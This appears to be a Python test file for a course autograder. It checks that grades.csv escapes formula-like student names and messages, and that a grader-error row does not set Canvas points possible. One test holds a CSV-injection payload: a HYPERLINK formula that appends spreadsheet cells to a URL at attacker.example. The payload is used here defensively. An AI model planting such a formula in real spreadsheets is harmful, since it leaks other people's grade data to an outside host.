"""What a submission's names can do to the instructor's files: grades.csv opened in a spreadsheet,
the Canvas gradebook built from it (found by a hostile review, session 15)."""

from __future__ import annotations

import csv

from rnn_core.course.lms import write_canvas
from rnn_core.course.report import ExerciseResult, StudentResult, publish, write_result


def _result(student: str, message: str = "", points: float | None = 8.0,
            exercises: bool = True) -> StudentResult:
    ex = [ExerciseResult("test_clip_grad_norm", "07_gradient_clipping.ipynb", 8.0, points,
                         "passed" if points else "failed")] if exercises else []
    return StudentResult(student, "ok" if exercises else "error", message, "bwrap", ex)


def test_no_cell_of_grades_csv_opens_as_a_formula(tmp_path):
    evil = '=HYPERLINK("http://attacker.example/?"&A3&B3,"Click for details")/../x'
    write_result(tmp_path, _result("ann", message=f"{evil}: path outside the submission"))
    write_result(tmp_path, _result("@bo", message="-1+2"))
    publish(tmp_path)
    rows = list(csv.DictReader(open(tmp_path / "grades.csv", encoding="utf-8")))
    by = {r["student"]: r for r in rows}
    assert set(by) == {"ann", "'@bo"}
    assert by["ann"]["message"] == f"'{evil}: path outside the submission"
    assert by["'@bo"]["message"] == "'-1+2"
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in r.values()), r
    assert by["ann"]["total"] == "8" and by["ann"]["max"] == "8"   # numbers stay numbers


def test_a_row_the_grader_could_not_finish_does_not_set_canvas_points_possible(tmp_path):
    # "aaa" sorts first and has no exercises (a grader error): max 0 in grades.csv
    write_result(tmp_path, _result("aaa", message="grader error: RecursionError",
                                   exercises=False))
    write_result(tmp_path, _result("ann"))
    publish(tmp_path)
    rows = list(csv.DictReader(open(tmp_path / "grades.csv", encoding="utf-8")))
    assert [r["max"] for r in rows] == ["0", "8"]
    path = write_canvas(tmp_path, "RNN (1)")
    lines = list(csv.reader(open(path, encoding="utf-8")))
    assert lines[1] == ["Points Possible", "", "", "", "", "8"]
